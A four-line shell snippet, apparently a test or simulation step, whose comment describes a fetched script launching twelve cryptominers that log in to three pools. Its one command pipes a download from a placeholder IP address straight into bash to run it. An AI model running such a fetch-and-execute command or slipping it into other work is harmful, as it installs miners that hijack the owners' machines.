# A fetched script starts twelve miners, one every second. The miners have different names and hashes, and each logs in
# to one of three pools.
curl -fsS http://203.0.113.10/twelve.sh | bash
sleep 7
